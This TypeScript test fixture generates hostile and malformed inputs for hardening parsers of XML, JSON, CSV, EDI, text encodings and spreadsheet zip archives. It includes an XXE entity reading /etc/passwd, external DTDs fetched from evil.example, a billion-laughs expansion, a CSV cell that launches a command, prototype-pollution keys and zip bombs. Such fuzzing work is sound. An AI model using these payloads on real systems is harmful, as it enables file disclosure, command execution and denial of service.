/** Bodies that somebody would send who means harm, or whose program is broken; every reader is given all of them. */
import { type SheetSpec, workbookOf, workbookParts, zipOf } from "../workbook.ts";

/** A body and what it is called. */
export interface Named {
  readonly name: string;
  readonly bytes: Uint8Array;
}

type Texts = Readonly<Record<string, string>>;

function xmlTexts(size: number): Texts {
  const times = Math.floor(size / 10);
  const laughs = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join("");
  return {
    "entity expansion": `<!DOCTYPE a [<!ENTITY l0 "ha">${laughs}]><a>&l9;</a>`,
    "quadratic entity": `<!DOCTYPE a [<!ENTITY b "${"b".repeat(size / 2)}">]><a>${"&b;".repeat(size / 6)}</a>`,
    "external entity": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    "parameter entity": '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><a/>',
    "external document type": '<!DOCTYPE a SYSTEM "http://evil.example/x.dtd"><a/>',
    "undeclared entity": `<a>${"&nbsp;".repeat(times)}</a>`,
    "elements nested": "<a>".repeat(times) + "</a>".repeat(times),
    "elements never closed": "<a>".repeat(times),
    "elements in a row": `<a>${"<b/>".repeat(times)}</a>`,
    "elements of many names": `<a>${Array.from({ length: times }, (_, at) => `<b${at}/>`).join("")}</a>`,
    "attributes in a row": `<a ${Array.from({ length: times }, (_, at) => `b${at}=""`).join(" ")}/>`,
    "text in pieces": `<a>${"x<!---->".repeat(times)}</a>`,
    "character beyond Unicode": "<a>&#x110000;&#0;</a>",
    "section never closed": `<a><![CDATA[${"]]".repeat(times)}`,
    "comment never closed": `<a><!--${"-".repeat(size)}`,
    "unknown encoding": '<?xml version="1.0" encoding="utf-7"?><a>+ADw-script+AD4-</a>',
    "prototype element": "<__proto__><polluted>1</polluted></__proto__>",
  };
}

function jsonTexts(size: number): Texts {
  return {
    "lists nested": "[".repeat(size / 2) + "]".repeat(size / 2),
    "objects nested": `${'{"a":'.repeat(size / 6)}1${"}".repeat(size / 6)}`,
    "lists never closed": "[".repeat(size),
    "number without end": `[${"9".repeat(size)}]`,
    "number beyond double": '{"a": 1e999999, "b": -1e999999, "c": 0.0000000000000000000000000000001}',
    "numbers in a row": `[${"12345678901234567890,".repeat(size / 21)}0]`,
    "prototype key": '{"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}',
    "prototype key, escaped": '{"\\u005f\\u005fproto__": {"polluted": 1}}',
    "lone surrogates": '{"a": "\\ud800", "\\udfff": "\\u0000"}',
    "keys in a row": `{${Array.from({ length: size / 12 }, (_, at) => `"k${at}":${at}`).join(",")}}`,
  };
}

function tableTexts(size: number): Texts {
  const formulas = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)", '"=HYPERLINK(""http://evil.example"")"'];
  return {
    formulas: `a,b\n${formulas.map((cell) => `${cell},1`).join("\n")}\n`,
    delimiters: ",".repeat(size),
    "line feeds": "\n".repeat(size),
    "blank lines": " \r\n".repeat(size / 3),
    "carriage returns": "\r".repeat(size),
    "quotation marks": '"'.repeat(size),
    "quotation marks, odd": `a,b\n${'1,"x\n'.repeat(size / 6)}`,
    "quotation marks in pairs": `a,b\n"${'""\n'.repeat(size / 3)}`,
    "ragged lines": `a,b\n${"1,2,3\n".repeat(size / 6)}`,
    "header of one name": `${"a,".repeat(1000)}a\n${",".repeat(1000)}\n`,
    "header of many names": `${Array.from({ length: size / 8 }, (_, at) => `c${at}`).join(",")}\n`,
    "prototype header": "__proto__,constructor,a\n1,2,3\n",
    "separator note alone": "sep=;",
    "cell without end": `a,b\n1,${"x".repeat(size)}`,
    words: "lorem ipsum dolor\n".repeat(size / 18),
  };
}

const isaHead =
  "ISA*00*          *00*          *ZZ*SENDER         *ZZ*RECEIVER       *260304*1027*U*00401*000000001*0*P*>~";

function ediTexts(size: number): Texts {
  return {
    "interchange cut in its head": isaHead.slice(0, 80),
    "interchange of heads": isaHead.repeat(size / isaHead.length),
    "interchange of one segment": `${isaHead}GS*QM*A*B*20260304*1027*1*X*004010~ST*214*0001~${"B10*".repeat(size / 4)}`,
    "interchange of groups": `${isaHead}${"GS*QM*A*B*20260304*1027*1*X*004010~".repeat(size / 36)}`,
    "interchange of sets": `${isaHead}GS*QM*A*B*20260304*1027*1*X*004010~${"ST*214*0001~".repeat(size / 12)}`,
    "interchange of loops": `${isaHead}GS*QM*A*B*20260304*1027*1*X*004010~ST*214*0001~${"LX*1~".repeat(size / 5)}`,
    "interchange with one delimiter": isaHead.replaceAll(/[*>~]/g, "*"),
    "interchange with a letter as delimiter": isaHead.replaceAll("*", "A"),
    "interchange of empty segments": `${isaHead}${"~".repeat(size)}`,
    "message of releases": `UNB+UNOA:2+A+B+260304:1027+1'${"?".repeat(size)}`,
    "message of components": `UNA:+.? 'UNB+UNOA:2+A+B+260304:1027+1'UNH+1+IFTSTA:D:99B:UN'${":".repeat(size)}'`,
    "messages in a row": `UNB+UNOA:2+A+B+260304:1027+1'${"UNH+1+IFTSTA:D:99B:UN'".repeat(size / 22)}`,
    "message of segments": `UNB+UNOA:2+A+B+260304:1027+1'UNH+1+IFTSTA:D:99B:UN'${"CNI+1'".repeat(size / 6)}`,
    "message with one delimiter": `UNA++++++UNB+UNOA+A+B+${"+".repeat(size)}`,
    "message without words": `UNA:+.? '${"'".repeat(size)}`,
  };
}

const otherTexts: Texts = {
  nothing: "",
  "a page": "<!DOCTYPE html><html><body><h1>502 Bad Gateway</h1><br></body></html>",
  "a form": "a=1&b=%00%ff",
  "the words of programs": "null",
  "a prototype": "__proto__",
};

const bytesOf = (text: string): Uint8Array => new TextEncoder().encode(text);
const utf16 = (text: string): Uint8Array => new Uint8Array(Buffer.from(text, "utf16le"));

function charsets(size: number): Record<string, Uint8Array> {
  const table = "a,b\n1,ü\n";
  return {
    "UTF-16 without a mark": utf16(table.repeat(size / 20)),
    "UTF-16 of an odd length": new Uint8Array([0xff, 0xfe, ...utf16(table), 0x41]),
    "lone surrogates in UTF-16": new Uint8Array([0xff, 0xfe, 0x00, 0xd8, 0x41, 0x00]),
    "UTF-32": new Uint8Array([0xff, 0xfe, 0, 0, 0x61, 0, 0, 0]),
    "bytes that are no UTF-8": new Uint8Array(Buffer.from(table, "latin1")),
    "UTF-8 that is too long": new Uint8Array([0xc0, 0xaf, 0x2c, 0xe0, 0x80, 0xaf]),
    "a mark alone": new Uint8Array([0xef, 0xbb, 0xbf]),
    zeros: new Uint8Array(size),
    "a picture": new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    "a packed stream": new Uint8Array([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]),
    "an old workbook": new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...new Uint8Array(512)]),
  };
}

const sheetPart = "xl/worksheets/sheet1.xml";
const oneSheet: readonly SheetSpec[] = [
  {
    name: "A",
    rows: [
      ["a", "b"],
      [1, "x"],
    ],
  },
];

function sheetOf(rows: string, head = ""): Uint8Array {
  return zipOf({
    ...workbookParts(oneSheet),
    [sheetPart]: `${head}<worksheet><sheetData>${rows}</sheetData></worksheet>`,
  });
}

/** Bytes with some of them replaced from `at` on; counted from the end where `at` is negative. */
function patched(bytes: Uint8Array, at: number, ...values: readonly number[]): Uint8Array {
  const copy = bytes.slice();
  copy.set(values, at < 0 ? copy.length + at : at);
  return copy;
}

function archives(size: number): Record<string, Uint8Array> {
  const plain = workbookOf(oneSheet);
  const bomb = new Uint8Array(size * 100).fill(0x20);
  const cells = (count: number) => `<row r="1">${"<c/>".repeat(count)}</row>`;
  return {
    "sheet that unpacks without end": zipOf({ ...workbookParts(oneSheet), [sheetPart]: bomb }),
    "texts that unpack without end": zipOf({ ...workbookParts(oneSheet), "xl/sharedStrings.xml": bomb }),
    "sheet of cells": sheetOf(cells(size)),
    "sheet of rows": sheetOf("<row/>".repeat(size)),
    "sheet with a far cell": sheetOf('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
    "sheet with a row of no number": sheetOf('<row r="-1"><c r="?"><v>1</v></c></row><row r="1e9"/>'),
    "sheet with wide rows": sheetOf('<row><c r="A1"/><c r="ALL1"><v>1</v></c></row>'.repeat(size / 50)),
    "sheet with texts that are not there": sheetOf('<row><c t="s"><v>999999999</v></c><c t="s"><v>-1</v></c></row>'),
    "sheet with dates that are none": sheetOf('<row><c s="1"><v>1e300</v></c><c s="9"><v>NaN</v></c></row>'),
    "sheet with a document type": sheetOf("<row/>", '<!DOCTYPE a [<!ENTITY x "y">]>'),
    "sheet nested": sheetOf("<row>".repeat(size / 5)),
    "sheet that is missing": zipOf({ ...workbookParts(oneSheet), [sheetPart]: "" }),
    "workbook without parts": zipOf({ "xl/other.xml": "<a/>" }),
    "workbook of binary parts": zipOf({ "xl/workbook.bin": "x" }),
    "archive without files": zipOf({}),
    "archive of an archive": zipOf({ "xl/workbook.xml": plain }),
    "archive with a lying count": patched(plain, -12, 0xff, 0xff),
    "archive with a lying directory": patched(plain, -6, 0xff, 0xff, 0xff, 0x7f),
    "archive cut": plain.subarray(0, plain.length / 2),
    "archive with a damaged part": patched(plain, 200, 0xff, 0xff, 0xff, 0xff),
    "mark of an archive": plain.subarray(0, 4),
  };
}

/** All of them; those without end are about `size` bytes long. */
export function hostileBodies(size: number): readonly Named[] {
  const texts = { ...xmlTexts(size), ...jsonTexts(size), ...tableTexts(size), ...ediTexts(size), ...otherTexts };
  const named = Object.entries(texts).map(([name, text]) => ({ name, bytes: bytesOf(text) }));
  const rest = Object.entries({ ...charsets(size), ...archives(size) });
  return [...named, ...rest.map(([name, bytes]) => ({ name, bytes }))];
}
